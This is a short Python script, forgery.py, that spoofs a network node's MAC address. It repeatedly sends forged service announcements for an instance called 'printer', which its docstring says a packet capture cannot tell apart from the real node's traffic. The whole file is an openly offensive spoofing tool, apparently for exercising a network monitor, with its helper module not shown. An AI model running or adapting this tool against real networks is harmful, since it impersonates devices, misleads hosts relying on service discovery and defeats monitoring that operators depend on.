"""Sends packets with the hardware address of a node, which show what a node must never show. A capture cannot tell them from the node's.

    forgery.py --as MAC --source ADDRESS

Sends one every second: an instance named "printer", with the time to live of another program.
"""

import argparse
import time

import wire


def attack(arguments):
    def perform(figures):
        raw, figures["sent"] = wire.frame_socket(), 0
        packet = wire.instance("printer", "workshop", 4000, [arguments.source], ttl=75)
        wire.ready()
        while True:
            raw.send(wire.udp_frame(arguments.source, packet, bytes.fromhex(arguments.mac.replace(":", ""))))
            figures["sent"] += 1
            time.sleep(1)
    return perform


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--as", dest="mac", required=True, metavar="MAC")
    parser.add_argument("--source", required=True)
    wire.perform(attack(parser.parse_args()))
